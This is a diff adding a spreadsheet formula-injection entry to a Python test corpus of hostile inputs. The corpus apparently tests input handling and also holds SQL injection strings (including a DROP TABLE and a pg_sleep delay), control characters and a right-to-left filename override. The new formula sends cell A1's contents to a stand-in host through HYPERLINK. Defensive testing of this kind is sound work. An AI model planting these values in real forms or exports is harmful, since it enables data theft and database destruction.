@@ -38,6 +38,7 @@ CORPUS = [
     Hostile("sql-quote", "x' OR '1'='1"),
     Hostile("sql-drop", "Robert'); DROP TABLE organisations_organisation;--"),
     Hostile("sql-sleep", "1; SELECT pg_sleep(5); --"),
+    Hostile("spreadsheet-formula", '=HYPERLINK("http://example.invalid/?d="&A1;"Klicka här")'),
     Hostile("like-wildcards", "100% _under_ back\\slash"),
     Hostile("control-characters", "Nämnd\x07med\x1b[31mkontroll\x7ftecken"),
     Hostile("rtl-override", "Nämnd \u202egnp.exe\u202c slut"),
